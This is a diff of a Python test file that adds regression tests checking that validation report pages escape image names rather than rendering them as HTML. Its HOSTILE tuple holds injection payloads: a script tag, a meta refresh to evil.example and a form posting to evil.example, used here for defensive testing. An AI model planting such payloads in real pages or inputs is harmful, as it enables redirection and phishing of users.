@@ -7,6 +7,7 @@ from pathlib import Path
 from urllib.error import HTTPError
 from urllib.request import Request, urlopen
 
+import pandas as pd
 import pytest
 from fastapi.testclient import TestClient
 
@@ -23,6 +24,7 @@ from pipelines.artifacts.io import write_rows
 from pipelines.artifacts.paths import Workspace
 from pipelines.operations.local_services import Services
 from pipelines.stages import validate
+from pipelines.validation.expectations import Rule, between, check
 from tests.devtools import CHROMIUM, browser
 from tests.records import record
 from tests.servers import free_port
@@ -54,22 +56,31 @@ def test_the_pages_name_the_image(docs: list[Path]) -> None:
     assert any(SCRIPT in page.read_text(encoding="utf-8") for page in docs)
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=AssertionError,
-    reason="Great Expectations' pages hold an image's name as markup, with no policy against it",
-)
 def test_a_name_is_no_markup_in_the_pages(docs: list[Path]) -> None:
     obeying = [page.name for page in docs if Reader(page).obeys]
     assert obeying == []
 
 
-@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")
-@pytest.mark.xfail(
-    strict=True,
-    raises=AssertionError,
-    reason="a browser that shows Great Expectations' page runs the script in an image's name",
+HOSTILE = (
+    "benign/<script>.png",
+    "benign/<meta http-equiv=refresh content=0;url=//evil.example>.png",
+    "benign/</td></table><form action=//evil.example>.png",
+    "benign/a&lt;b & $c ${d}'\".png",
 )
+
+
+def test_a_page_has_no_element_of_a_name_and_a_message_has_the_name_itself(tmp_path: Path) -> None:
+    table = pd.DataFrame({"image": HOSTILE, "masks": 0})
+    (found,) = check("x", table, "image", [Rule("it has a mask", between("masks", 1))], tmp_path)
+    assert set(found.broken_by) == set(HOSTILE)
+    (page,) = (tmp_path / "validations").rglob("*.html")
+    elements = Reader(page).elements
+    assert not {"script", "form"} & {name for name, _ in elements}
+    assert not [about for name, about in elements if name == "meta" and "refresh" in str(about)]
+    assert page.read_text(encoding="utf-8").count("evil.example") >= 2
+
+
+@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")
 def test_a_browser_runs_no_name_as_a_script(docs: list[Path], tmp_path: Path) -> None:
     own = tmp_path / "own.html"
     own.write_text(f"<!doctype html><body><img src=x onerror={SCRIPT}></body>", encoding="utf-8")
@@ -154,11 +165,6 @@ def secured(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> int:
 
 @pytest.mark.slow
 @pytest.mark.long
-@pytest.mark.xfail(
-    strict=True,
-    raises=AssertionError,
-    reason="`hgmnet up` asks its own server without the password that docs/automation.md sets",
-)
 def test_up_comes_up_with_a_password(secured: int, tmp_path: Path) -> None:
     error = ""
     with Services(tmp_path) as services:
@@ -178,6 +184,7 @@ class Reader(HTMLParser):
     def __init__(self, page: Path) -> None:
         super().__init__()
         self._runs = self._forbidden = False
+        self.elements: list[tuple[str, dict[str, str]]] = []
         self.feed(page.read_text(encoding="utf-8"))
 
     @property
@@ -186,6 +193,7 @@ class Reader(HTMLParser):
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
         known = {name: value or "" for name, value in attrs}
+        self.elements.append((tag, known))
         self._runs |= any(n.startswith("on") and SCRIPT in v for n, v in known.items())
         if known.get("http-equiv", "").lower() == "content-security-policy":
             rules = dict(f"{rule.strip()} ".split(" ", 1) for rule in known["content"].split(";"))
